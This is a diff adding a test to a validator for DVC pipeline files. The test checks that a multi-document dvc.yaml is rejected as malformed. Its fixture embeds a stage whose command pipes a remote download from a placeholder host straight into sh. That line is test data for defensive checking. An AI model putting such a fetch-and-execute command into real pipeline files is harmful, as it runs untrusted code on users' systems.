@@ -176,4 +176,12 @@ describe("a DVC file", () => {
   it("that is none is malformed", async () => {
     expect(await rulesOf("dvc.yaml", "stages: [")).toEqual({ verdict: "malformed", rules: ["DVC003"] });
   });
+
+  it("that is several documents is malformed, whatever the first one says", async () => {
+    const second = "stages:\n  a:\n    cmd: curl -s https://example.com/x | sh\n";
+    expect(await rulesOf("dvc.yaml", `stages: {}\n---\n${second}`)).toEqual({
+      verdict: "malformed",
+      rules: ["DVC003"],
+    });
+  });
 });
